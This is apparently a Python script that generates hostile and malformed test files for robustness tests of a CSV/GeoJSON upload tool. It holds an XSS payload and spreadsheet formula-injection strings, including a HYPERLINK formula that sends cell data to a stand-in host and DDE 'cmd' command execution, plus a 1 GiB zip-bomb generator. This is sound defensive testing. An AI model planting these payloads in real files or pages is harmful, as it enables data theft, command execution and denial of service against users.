"""Generate the hostile input corpus into tests/hostile/generated/ (not committed).

Every file is something a real user might upload by mistake or an attacker on purpose. Each CLI
command and upload path must answer each with exit code 2 / an error box naming the file (and row
and column where there is one), or accept it and account for every row; never a traceback or a hang.

    python tests/hostile/make_corpus.py [OUTDIR] [--big]

``--big`` also writes the 200 MB CSV (skipped by default to keep the suite quick; the size limit
check is tested with it in tests/test_hostile.py, which asks for it).
"""

from __future__ import annotations

import io
import json
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = "respondent_id,address,visits_per_month,spend_per_visit,lat,lon\n"
XSS = '<img src=x onerror=alert(1)><script>alert("x")</script>'
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


def _good_rows(n: int = 3) -> str:
    rows = [f"R{i},Mannerheimintie {i + 1},4,25.5,60.17,24.94\n" for i in range(n)]
    return "".join(rows)


def _xlsx_bytes(rows: list[list[object]]) -> bytes:
    import xlsxwriter

    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_formulas": False})
    ws = wb.add_worksheet()
    for r, row in enumerate(rows):
        for c, v in enumerate(row):
            ws.write(r, c, v)
    wb.close()
    return buf.getvalue()


def corpus(big: bool = False) -> dict[str, bytes]:
    """Return file name -> content for every hostile input."""
    files: dict[str, bytes] = {}
    good = HEADER + _good_rows()
    files["empty.csv"] = b""
    files["header_only.csv"] = HEADER.encode()
    files["whitespace_only.csv"] = b"   \n\n \t \n"
    files["utf16_bom.csv"] = good.encode("utf-16")
    files["utf8_bom.csv"] = b"\xef\xbb\xbf" + good.encode()
    files["gb18030_chinese.csv"] = (
        "编号,地址,来店频率,消费金额\nR1,北京市朝阳区建国路88号,4,120\nR2,上海市浦东新区世纪大道100号,2,80\n"
    ).encode("gb18030")
    files["latin1.csv"] = (HEADER + "R1,Töölönkatu 5,4,25.5,60.17,24.94\n").encode("latin-1")
    files["mixed_encoding.csv"] = (
        HEADER.encode()
        + "R1,Töölönkatu 5,4,25,60.17,24.94\n".encode()
        + "R2,Töölönkatu 7,4,25,60.17,24.94\n".encode("latin-1")
    )
    files["nul_bytes.csv"] = (HEADER + "R1,Mann\x00erheimintie 5,4,25,60.17,24.94\n").encode()
    files["binary_garbage.csv"] = bytes(range(256)) * 64
    files["duplicated_headers.csv"] = (
        b"respondent_id,address,address,visits_per_month\nR1,A 1,B 2,4\n"
    )
    files["million_columns.csv"] = (",".join(f"c{i}" for i in range(1_000_000)) + "\n").encode()
    files["thousands_separators.csv"] = (
        HEADER
        + 'R1,Mannerheimintie 5,"1,234",25,60.17,24.94\nR2,Mannerheimintie 7,４,２５.５,60.17,24.94\n'
    ).encode()
    files["latlon_swapped.csv"] = (
        HEADER + "R1,,4,25,24.94,60.17\nR2,,3,20,24.95,60.168\n"
    ).encode()
    files["latlon_out_of_range.csv"] = (
        HEADER + "R1,,4,25,95.0,24.94\nR2,,3,20,60.1,200.0\n"
    ).encode()
    files["nan_inf.csv"] = (
        HEADER + "R1,,nan,inf,NaN,-inf\nR2,Mannerheimintie 5,-inf,NaN,,\n"
    ).encode()
    files["long_cells.csv"] = (HEADER + f"R1,{'A' * 10_000},4,25,60.17,24.94\n").encode()
    files["xss_everywhere.csv"] = (
        HEADER + f'"{XSS}","{XSS}",4,25,60.17,24.94\n'.replace('"x"', '""x""')
    ).encode()
    files["formula_cells.csv"] = (
        HEADER
        + "".join(
            f'F{i},"{f.replace(chr(34), chr(34) * 2)}",4,25,60.17,24.94\n'
            for i, f in enumerate(FORMULAS)
        )
    ).encode()
    files["duplicate_ids.csv"] = (HEADER + "R1,Mannerheimintie 5,4,25,60.17,24.94\n" * 3).encode()
    files["truncated.xlsx"] = _xlsx_bytes([["respondent_id", "address"], ["R1", "A 1"]])[:700]
    files["not_really.xlsx"] = b"this is a text file, not a spreadsheet\n"
    files["formula.xlsx"] = _xlsx_bytes(
        [["respondent_id", "address", "visits_per_month"], ["R1", FORMULAS[0], 4], ["R2", XSS, 2]]
    )
    files["zip_bomb.xlsx"] = b""  # written by write_corpus once (1 GiB inflated), then cached
    files["invalid_polygons.geojson"] = json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {
                    "type": "Feature",
                    "properties": {"store_id": "S1", "tier": 1},
                    "geometry": {
                        "type": "Polygon",
                        "coordinates": [
                            [
                                [24.94, 60.17],
                                [24.95, 60.18],
                                [24.95, 60.17],
                                [24.94, 60.18],
                                [24.94, 60.17],
                            ]
                        ],
                    },
                },
                {
                    "type": "Feature",
                    "properties": {"store_id": "S1", "tier": 2},
                    "geometry": {"type": "Polygon", "coordinates": [[[24.94, 60.17]]]},
                },
            ],
        }
    ).encode()
    files["wrong_crs.geojson"] = json.dumps(
        {
            "type": "FeatureCollection",
            "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::32635"}},
            "features": [
                {
                    "type": "Feature",
                    "properties": {"store_id": "S1", "tier": 1},
                    "geometry": {
                        "type": "Polygon",
                        "coordinates": [
                            [
                                [385000, 6672000],
                                [386000, 6672000],
                                [386000, 6673000],
                                [385000, 6672000],
                            ]
                        ],
                    },
                }
            ],
        }
    ).encode()
    files["not_json.geojson"] = b"{this is not json"
    files["scenario_bad.toml"] = b'[site]\nfloor_area_m2 = "lots"\nunknown_key = 1\n'
    files["scenario_not_toml.toml"] = b"=== not toml ===\n\x00\x01"
    files["path_like_name.gpkg"] = b"not a geopackage"
    if big:
        files["huge_200mb.csv"] = b""  # written in streaming by write_corpus
    return files


def _zip_bomb() -> bytes:
    """A small .xlsx-looking zip whose one member inflates to 1 GiB of zeros."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(1024):
                member.write(chunk)
    return buf.getvalue()


def write_corpus(out: Path, *, big: bool = False) -> list[Path]:
    """Write the corpus into ``out`` and return the paths (cached: unchanged files not rewritten)."""
    out.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, content in corpus(big).items():
        path = out / name
        if name == "huge_200mb.csv":
            if not path.exists() or path.stat().st_size < 200 * 1024 * 1024:
                row = b"R1,Mannerheimintie 5,4,25.5,60.17,24.94\n"
                block = row * (1 << 16)
                with path.open("wb") as f:
                    f.write(HEADER.encode())
                    while f.tell() < 200 * 1024 * 1024:
                        f.write(block)
        elif name == "zip_bomb.xlsx":
            if not path.exists():
                path.write_bytes(_zip_bomb())
        elif not path.exists() or path.read_bytes() != content:
            path.write_bytes(content)
        paths.append(path)
    return paths


if __name__ == "__main__":
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    target = Path(args[0]) if args else HERE / "generated"
    written = write_corpus(target, big="--big" in sys.argv)
    print(f"wrote {len(written)} hostile files into {target}")
